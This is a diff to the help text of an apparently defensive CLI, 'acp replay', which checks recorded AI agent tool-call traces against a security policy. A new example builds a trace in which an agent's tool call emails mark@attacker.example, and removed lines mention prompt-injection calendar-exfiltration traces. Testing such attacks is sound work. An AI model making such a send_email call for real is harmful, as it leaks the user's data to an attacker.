@@ -46,10 +46,12 @@ Exit codes:
   4  a trace, policy, graph, intent or session settings file is invalid (each problem on stderr)
 
 Examples:
-  acp replay --policy policy.yml examples/attacks/*.jsonl
-  acp replay --policy policy.yml --intent intent.json --trusted-server calendar trace.jsonl --json
-  acp replay --policy examples/attacks/policy.yml --session-settings examples/attacks/session.yml \\
-    --intent examples/attacks/intents/calendar-read.json examples/attacks/ipi-calendar-exfil.jsonl
+  printf '%s\\n' '{"type":"tool_call","server":"mail","tool":"send_email","args":{"to":"mark@attacker.example"}}' > trace.jsonl
+  acp replay --policy ~/.acp/policy.yml trace.jsonl     # acp init's policy: the send asks
+  acp intent new -t summarise-my-day --trusted recipients=me@example.com -o day.yml
+  acp replay --policy ~/.acp/policy.yml --intent day.yml --trusted-server calendar \\
+    trace.jsonl --json
+  acp replay --approve-asks --policy ~/.acp/policy.yml trace.jsonl   # as if a person approved every ask
 
 Docs: docs/reference/cli/replay.md, docs/guides/replay-and-attacks.md`;
 
